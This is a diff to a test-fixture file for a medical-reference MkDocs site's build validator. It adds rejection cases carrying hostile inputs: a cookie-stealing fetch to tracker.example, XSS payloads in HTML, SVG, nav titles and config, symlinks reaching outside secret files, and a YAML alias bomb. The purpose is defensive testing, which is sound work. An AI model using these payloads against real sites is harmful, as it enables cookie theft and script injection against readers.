@@ -11,6 +11,7 @@ from __future__ import annotations
 from dataclasses import dataclass, field
 
 from bibfixtures import TRAINEAU
+from sitebuild import config_without_nav
 
 HOME = "index.md"
 TYPE = "types/dystrophic-calcinosis.md"
@@ -39,6 +40,10 @@ OTHER = """@article{reiter2011calcinosis,
 NAV = f"  - {HOME}\n  - {TYPE}\n"
 
 
+SECRET = "TOP-SECRET-3f9a: a file outside the repository"
+OUTSIDE = "{outside}"  # in `links`: a folder outside the fixture holding secret.txt and secret.md
+
+
 @dataclass
 class Case:
     """One bad input: what to change in the good site, and the line the build must print."""
@@ -49,6 +54,11 @@ class Case:
     docs: dict[str, str | bytes] = field(default_factory=dict)  # replaced or added pages
     bib: str | None = None  # the whole refs.bib, when the case is about it
     nav: str = NAV
+    files: dict[str, str] = field(default_factory=dict)  # other files, by path from the fixture root
+    links: dict[str, str] = field(default_factory=dict)  # symbolic links: path -> target (OUTSIDE expands)
+    config: str = ""  # YAML appended to the fixture's mkdocs.yml (after the nav)
+    absent: tuple[str, ...] = ()  # texts that must not appear in any file of site/
+    check_skip: str = ""  # why `make check` cannot print the line (empty: it must)
 
 
 def good_site() -> tuple[dict[str, str | bytes], dict[str, str], str]:
@@ -70,6 +80,29 @@ def front(**changes: str | None) -> str:
     keys.update(changes)
     return "---\n" + "".join(f"{k}: {v}\n" for k, v in keys.items() if v is not None) + "---\n"
 
+
+# The fixture's mkdocs.yml is the real one without its nav, then "nav:" and the case's nav,
+# then the case's `config` lines.
+_NAV_LINE = config_without_nav().count("\n") + 2
+
+
+def config_line(offset: int, nav: str = NAV) -> int:
+    """The line of mkdocs.yml where the `offset`-th line (1-based) of a case's `config` lands."""
+    return _NAV_LINE + nav.count("\n") + offset
+
+
+def nav_line(index: int) -> int:
+    """The line of mkdocs.yml of the nav's `index`-th entry (1-based)."""
+    return _NAV_LINE + index
+
+
+def fm(yaml_text: str) -> str:
+    """A type page whose front matter is the given YAML, line 2 onwards."""
+    return f"---\n{yaml_text}---\n" + TYPE_BODY
+
+
+SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
+PNG = b"\x89PNG\r\n\x1a\n"
 
 # Lines in the type page: front matter 1-6; "# Dystrophic..." 8; "## Causes" 10; text 12.
 
@@ -133,21 +166,6 @@ CASES: list[Case] = [
     Case("meta-unknown-relation-id", "metadata", "docs/types/dystrophic-calcinosis.md:6: unknown page id 'calciphylaxsis' in 'see_also'",
          docs=type_page(front=front(see_also="[calciphylaxsis]"))),
     Case("meta-yaml-error", "metadata", "docs/types/dystrophic-calcinosis.md:2: front matter is not valid YAML: mapping values are not allowed in this context", docs=type_page(front=front(title="Dystrophic: calcinosis: [x"))),
-    # ── Structured studies, and what a page keeps from its template ─────────────────────
-    Case("meta-study-old-form", "metadata", "docs/treatment/minocycline.md:11: study 1 of therapy 'Minocycline' must be a mapping of key, design, patients and response (got 'traineau2020treatment')",
-         docs=treatment_page("    studies: [traineau2020treatment]\n"), nav=NAV + f"  - {TREATMENT}\n"),
-    Case("meta-study-unknown-design", "metadata", "docs/treatment/minocycline.md:13: 'design' of study 'traineau2020treatment' of therapy 'Minocycline' must be one of systematic-review, randomised-trial, cohort, case-control, case-series, case-report, narrative-review (got 'rct')",
-         docs=treatment_page(STUDY.replace("systematic-review", "rct")), nav=NAV + f"  - {TREATMENT}\n"),
-    Case("meta-study-patients-not-a-number", "metadata", "docs/treatment/minocycline.md:14: 'patients' of study 'traineau2020treatment' of therapy 'Minocycline' must be a whole number above 0 (got '288 patients')",
-         docs=treatment_page(STUDY.replace("patients: 288", "patients: 288 patients")), nav=NAV + f"  - {TREATMENT}\n"),
-    Case("meta-study-missing-response", "metadata", "docs/treatment/minocycline.md:12: study 'traineau2020treatment' of therapy 'Minocycline' is missing 'response'",
-         docs=treatment_page(STUDY.replace("        response: Not to be used\n", "")), nav=NAV + f"  - {TREATMENT}\n"),
-    Case("meta-placeholder-description", "metadata", "docs/types/dystrophic-calcinosis.md:3: 'description' is still the placeholder of make new-page",
-         docs=type_page(front=front(description="Replace this with one sentence that sums up the page, at most 160 characters."))),
-    Case("meta-example-relation", "metadata", "docs/types/dystrophic-calcinosis.md:6: 'see_also' is still the example from templates/type.md",
-         docs=type_page(front=front(see_also="[home]   # example: name pages worth reading, or delete the line"))),
-    Case("meta-template-comment", "metadata", "docs/types/dystrophic-calcinosis.md:14: placeholder comment from the template left in the page ('Typical sites, how the deposits look and...')",
-         docs=type_page(TYPE_BODY + "\n<!-- Typical sites, how the deposits look and feel, their time course and\n     complications. -->\n")),
     # ── Links ───────────────────────────────────────────────────────────────────────────
     Case("link-broken-page", "links", "docs/index.md:12: link to 'types/missing.md' points to no page (docs/types/missing.md does not exist)", docs=home("\nSee [the missing page](types/missing.md).\n")),
     Case("link-broken-anchor", "links", "docs/index.md:12: link to 'types/dystrophic-calcinosis.md#cause' names no section of docs/types/dystrophic-calcinosis.md",
@@ -184,6 +202,129 @@ CASES: list[Case] = [
     Case("file-not-utf8", "files", "docs/types/dystrophic-calcinosis.md:12: file is not valid UTF-8 (byte 0xe9 at offset 198)",
          docs={TYPE: (FRONT_TYPE + TYPE_BODY.replace("normal", "n\u00e9ormal")).encode("latin-1")}),
     Case("file-empty-page", "files", "docs/types/dystrophic-calcinosis.md:7: page has no content", docs={TYPE: FRONT_TYPE}),
+    Case("file-control-character", "files", "docs/types/dystrophic-calcinosis.md:12: the page contains the control character U+0000",
+         docs=type_page(TYPE_BODY.replace("damaged tissue", "damaged\x00 tissue"))),
+    Case("file-lone-carriage-return", "content policy", "docs/index.md:13: raw HTML <script> is not allowed: pages must not run code of their own",
+         docs=home("\nA line.\r<script>alert(1)</script>\n"), absent=("alert(1)",)),
+    # ── What reaches site/: links, file types, drawings, stylesheets ─────────────────────
+    Case("file-symlink-static", "published files", "docs/assets/passwd.txt:1: docs/assets/passwd.txt is a symbolic link",
+         links={"docs/assets/passwd.txt": f"{OUTSIDE}/secret.txt"}, absent=(SECRET,)),
+    Case("file-symlink-folder", "published files", "docs/leak:1: docs/leak is a symbolic link",
+         links={"docs/leak": OUTSIDE}, absent=(SECRET,)),
+    Case("file-symlink-page", "published files", "docs/types/linked.md:1: docs/types/linked.md is a symbolic link",
+         links={"docs/types/linked.md": f"{OUTSIDE}/secret.md"}, absent=(SECRET,)),
+    Case("file-broken-symlink-page", "published files", "docs/types/gone.md:1: docs/types/gone.md is a symbolic link",
+         links={"docs/types/gone.md": f"{OUTSIDE}/no-such-file.md"}),
+    Case("file-symlink-bibliography", "published files", "bibliography/linked.bib:1: bibliography/linked.bib is a symbolic link",
+         links={"bibliography/linked.bib": f"{OUTSIDE}/secret.txt"}, absent=(SECRET,)),
+    Case("file-symlink-snippet", "snippets", "docs/index.md:12: snippet 'secret.md' is a symbolic link",
+         docs=home('\n--8<-- "secret.md"\n'), links={"includes/secret.md": f"{OUTSIDE}/secret.md"}, absent=(SECRET,)),
+    Case("file-html-static", "published files", "docs/assets/guide.html:1: docs/assets/guide.html is not published: .html files may not reach the site",
+         docs={"assets/guide.html": "<p>Guide</p><script>alert('guide')</script>"}, absent=("alert('guide')",)),
+    Case("file-js-static", "published files", "docs/assets/tracker.js:1: docs/assets/tracker.js is not published: .js files may not reach the site",
+         docs={"assets/tracker.js": "fetch('https://tracker.example/?'+document.cookie)"}, absent=("document.cookie",)),
+    Case("file-no-extension", "published files", "docs/assets/notes:1: docs/assets/notes is not published: a file without an extension files may not reach the site",
+         docs={"assets/notes": "private notes"}, absent=("private notes",)),
+    Case("svg-script", "published files", "docs/assets/images/map.svg:1: the drawing contains a <script> element",
+         docs={"assets/images/map.svg": SVG_HEAD + "<script>alert('svg')</script></svg>"}, absent=("alert('svg')",)),
+    Case("svg-event-handler", "published files", "docs/assets/images/map.svg:1: the drawing contains an attribute 'onload' on <svg>",
+         docs={"assets/images/map.svg": SVG_HEAD.replace("<svg ", '<svg onload="alert(2)" ') + "</svg>"}, absent=("alert(2)",)),
+    Case("svg-remote-reference", "published files", "docs/assets/images/map.svg:1: the drawing contains a link 'https://tracker.example/a.svg#x' on <use> (only '#id' references within the drawing)",
+         docs={"assets/images/map.svg": SVG_HEAD + '<use href="https://tracker.example/a.svg#x"/></svg>'}, absent=("tracker.example",)),
+    Case("svg-foreign-object", "published files", "docs/assets/images/map.svg:1: the drawing contains a <foreignobject> element",
+         docs={"assets/images/map.svg": SVG_HEAD + "<foreignObject><p>html</p></foreignObject></svg>"}),
+    Case("svg-animation", "published files", "docs/assets/images/map.svg:1: the drawing contains a <animate> element",
+         docs={"assets/images/map.svg": SVG_HEAD + '<a><animate attributeName="href" values="https://a;javascript:alert(3)"/></a></svg>'},
+         absent=("alert(3)",)),
+    Case("svg-style-url", "published files", "docs/assets/images/map.svg:1: the drawing contains a url(...) to another file in 'style' on <rect>",
+         docs={"assets/images/map.svg": SVG_HEAD + '<rect style="fill:url(https://tracker.example/p)"/></svg>'}, absent=("tracker.example",)),
+    Case("css-import", "published files", "docs/assets/stylesheets/extra.css:2: the stylesheet imports another stylesheet (@import)",
+         docs={"assets/stylesheets/extra.css": "p { color: black }\n@import url(https://tracker.example/x.css);\n"}, absent=("tracker.example",)),
+    Case("css-remote-url", "published files", "docs/assets/stylesheets/extra.css:1: the stylesheet loads 'https://tracker.example/p.png' from another host",
+         docs={"assets/stylesheets/extra.css": 'body { background: url("https://tracker.example/p.png") }\n'}, absent=("tracker.example",)),
+    # ── mkdocs.yml: nav, site name, copyright, extra ────────────────────────────────────
+    Case("nav-javascript-link", "site config", f"mkdocs.yml:{nav_line(3)}: nav link 'javascript:alert(4)' is not allowed",
+         nav=NAV + '  - "Click me": "javascript:alert(4)"\n', absent=("alert(4)",)),
+    Case("nav-title-markup", "site config", f"mkdocs.yml:{nav_line(3)}: nav title 'Home <img src=x onerror=alert(5)>' contains HTML markup (<img>)",
+         nav=NAV + '  - "Home <img src=x onerror=alert(5)>": https://example.org/\n', absent=("<img src=x onerror=alert(5)>",)),
+    Case("nav-http-link", "site config", f"mkdocs.yml:{nav_line(3)}: nav link 'http://example.org/' is not allowed",
+         nav=NAV + "  - Source: http://example.org/\n"),
+    Case("config-copyright-markup", "site config", f"mkdocs.yml:{config_line(1)}: 'copyright' contains HTML markup (<img>)",
+         config="copyright: '<img src=x onerror=alert(6)>'\n", absent=("<img src=x onerror=alert(6)>",)),
+    Case("config-site-name-comment", "site config", f"mkdocs.yml:{config_line(1)}: 'site_name' contains HTML markup (an HTML comment)",
+         config="site_name: 'Calcinosis <!--'\n"),
+    Case("config-extra-markup", "site config", f"mkdocs.yml:{config_line(2)}: 'extra.notice' contains HTML markup (<script>)",
+         config="extra:\n  notice: '<script>alert(7)</script>'\n", absent=("<script>alert(7)",)),
+    Case("config-extra-analytics", "site config", f"mkdocs.yml:{config_line(2)}: 'extra.analytics' would send every reader's visits to another host",
+         config="extra:\n  analytics:\n    provider: google\n    property: G-ABCDEF\n", absent=("G-ABCDEF",)),
+    Case("config-remote-stylesheet", "site config", f"mkdocs.yml:{config_line(3)}: 'extra_css' loads 'https://tracker.example/x.css' from another host",
+         config="extra_css:\n  - assets/stylesheets/site.css\n  - https://tracker.example/x.css\n", absent=("tracker.example",)),
+    # ── Snippets ────────────────────────────────────────────────────────────────────────
+    Case("snippet-missing", "snippets", "docs/index.md:12: snippet 'abbreviatons.md' does not exist in includes/, templates/ (did you mean 'abbreviations.md'?)",
+         docs=home('\n--8<-- "abbreviatons.md"\n')),
+    Case("snippet-missing-in-block", "snippets", "docs/index.md:13: snippet 'missing.md' does not exist in includes/, templates/",
+         docs=home("\n--8<--\nmissing.md\n--8<--\n")),
+    Case("snippet-outside-folders", "snippets", "docs/index.md:12: snippet '../mkdocs.yml' does not exist in includes/, templates/",
+         docs=home('\n--8<-- "../mkdocs.yml"\n'), absent=("site_name: Calcinosis",)),
+    Case("snippet-web-address", "snippets", "docs/index.md:12: snippet 'https://example.org/x.md' is a web address",
+         docs=home('\n--8<-- "https://example.org/x.md"\n')),
+    Case("snippet-nested-missing", "snippets", "includes/note.md:1: snippet 'gone.md' does not exist in includes/, templates/",
+         docs=home('\n--8<-- "note.md"\n'), files={"includes/note.md": '--8<-- "gone.md"\n'}),
+    Case("snippet-html-file", "snippets", "includes/box.html:2: raw HTML <script> is not allowed: pages must not run code of their own",
+         docs=home('\n--8<-- "box.html"\n'), files={"includes/box.html": "<div>Box</div>\n<script>alert(8)</script>\n"},
+         absent=("alert(8)",)),
+    # ── Structured studies, and what a page keeps from its template ─────────────────────
+    Case("meta-study-old-form", "metadata", "docs/treatment/minocycline.md:11: study 1 of therapy 'Minocycline' must be a mapping of key, design, patients and response (got 'traineau2020treatment')",
+         docs=treatment_page("    studies: [traineau2020treatment]\n"), nav=NAV + f"  - {TREATMENT}\n"),
+    Case("meta-study-unknown-design", "metadata", "docs/treatment/minocycline.md:13: 'design' of study 'traineau2020treatment' of therapy 'Minocycline' must be one of systematic-review, randomised-trial, cohort, case-control, case-series, case-report, narrative-review (got 'rct')",
+         docs=treatment_page(STUDY.replace("systematic-review", "rct")), nav=NAV + f"  - {TREATMENT}\n"),
+    Case("meta-study-patients-not-a-number", "metadata", "docs/treatment/minocycline.md:14: 'patients' of study 'traineau2020treatment' of therapy 'Minocycline' must be a whole number above 0 (got '288 patients')",
+         docs=treatment_page(STUDY.replace("patients: 288", "patients: 288 patients")), nav=NAV + f"  - {TREATMENT}\n"),
+    Case("meta-study-missing-response", "metadata", "docs/treatment/minocycline.md:12: study 'traineau2020treatment' of therapy 'Minocycline' is missing 'response'",
+         docs=treatment_page(STUDY.replace("        response: Not to be used\n", "")), nav=NAV + f"  - {TREATMENT}\n"),
+    Case("meta-placeholder-description", "metadata", "docs/types/dystrophic-calcinosis.md:3: 'description' is still the placeholder of make new-page",
+         docs=type_page(front=front(description="Replace this with one sentence that sums up the page, at most 160 characters."))),
+    Case("meta-example-relation", "metadata", "docs/types/dystrophic-calcinosis.md:6: 'see_also' is still the example from templates/type.md",
+         docs=type_page(front=front(see_also="[home]   # example: name pages worth reading, or delete the line"))),
+    Case("meta-template-comment", "metadata", "docs/types/dystrophic-calcinosis.md:14: placeholder comment from the template left in the page ('Typical sites, how the deposits look and...')",
+         docs=type_page(TYPE_BODY + "\n<!-- Typical sites, how the deposits look and feel, their time course and\n     complications. -->\n")),
+    # ── Front matter that could hang or crash the build ─────────────────────────────────
+    Case("meta-yaml-alias-bomb", "metadata", "docs/types/dystrophic-calcinosis.md:6: front matter uses a YAML anchor or alias ('a')",
+         docs=type_page(front=fm("title: T\ndescription: D.\nkind: type\nreviewed: 2026-01-01\n"
+                                  "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+                                  + "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))))),
+    Case("meta-yaml-recursive", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter uses a YAML anchor or alias ('a')",
+         docs=type_page(front=fm("title: T\nloop: &a [*a]\n"))),
+    Case("meta-yaml-complex-key", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter has a key that is not plain text",
+         docs=type_page(front=fm("title: T\n? [a, b]\n: c\n"))),
+    Case("meta-yaml-deep", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter is nested more than 8 levels deep",
+         docs=type_page(front=fm("title: T\nx: " + "[" * 300 + "]" * 300 + "\n"))),
+    Case("meta-yaml-unclosed-bracket", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter is not valid YAML: did not find expected ',' or ']'",
+         docs=type_page(front=fm("title: T\nsee_also: [calciphylaxis\nkind: type\n"))),
+    # ── HTML written so that a regular expression would miss it ─────────────────────────
+    Case("html-slash-separator", "content policy", "docs/index.md:12: the page as built contains an attribute 'style' on <div>",
+         docs=home('\n<div/style="position:fixed;inset:0">word</div>\n'), absent=('style="position:fixed;inset:0"',)),
+    Case("html-comment-closed-with-bang", "content policy", "docs/index.md:12: the page as built contains an attribute 'onerror' on <img>",
+         docs=home("\n<!-- a note --!><img src=x onerror=alert(9) alt=x>\n"), absent=("alert(9)",)),
+    Case("html-after-unclosed-fence", "content policy", "docs/index.md:14: the page as built contains a <script> element",
+         docs=home("\n```\n\n<script>alert(10)</script>\n"), absent=("alert(10)",)),
+    Case("attr-list-brace-in-value", "content policy", "docs/index.md:12: the page as built contains an attribute 'onclick' on <a>",
+         docs=home('\nA [link](types/dystrophic-calcinosis.md){ title="}" onclick="alert(11)" }.\n'), absent=("alert(11)",)),
+    Case("html-srcset-remote", "content policy", "docs/index.md:12: the page as built contains an attribute 'srcset' on <img>",
+         docs={**home('\n<img src="assets/images/figure.png" srcset="https://tracker.example/p.png 2x" alt="A figure">\n'),
+               "assets/images/figure.png": PNG}, absent=("tracker.example",)),
+    Case("svg-inline", "content policy", "docs/index.md:12: raw HTML <svg> is not on the allowlist",
+         docs=home('\n<svg><animate values="https://a;javascript:alert(12)"/></svg>\n'), absent=("alert(12)",)),
+    Case("attr-list-style", "content policy", "docs/index.md:12: a 'style' attribute in an attribute list is not allowed: it can hide or restyle parts of the site",
+         docs=home('\nA [link](types/dystrophic-calcinosis.md){ style="display:none" }.\n'), absent=('style="display:none"',)),
+    Case("url-http-without-slashes", "content policy", "docs/index.md:12: external link 'http:evil.example' uses http, not https",
+         docs=home("\nSee [a source](http:evil.example).\n")),
+    Case("url-ftp", "content policy", "docs/index.md:12: link to a 'ftp:' URL is not allowed",
+         docs=home("\nSee [a file](ftp://example.org/file.pdf).\n")),
+    Case("url-entity-encoded-javascript", "content policy", "docs/index.md:12: link to a 'javascript:' URL is not allowed: it runs code",
+         docs=home('\nA <a href="&#106;avascript:alert(13)">link</a>.\n'), absent=("alert(13)",)),
+    Case("tel-autolink-vanishes", "content policy", "docs/index.md:12: '<tel:+441234567890>' is not a link in Markdown: it would vanish from the page",
+         docs=home("\nCall <tel:+441234567890>.\n")),
     Case("file-duplicate-page-id", "files", "docs/types/dystrophic-calcinosis.md:1: duplicate page id 'dystrophic-calcinosis': docs/conditions/dystrophic-calcinosis.md has the same file name",
          docs={"conditions/dystrophic-calcinosis.md": FRONT_ABOUT.replace("Home", "Again") + "\n# Again\n\nText.\n"},
          nav=NAV + "  - conditions/dystrophic-calcinosis.md\n"),
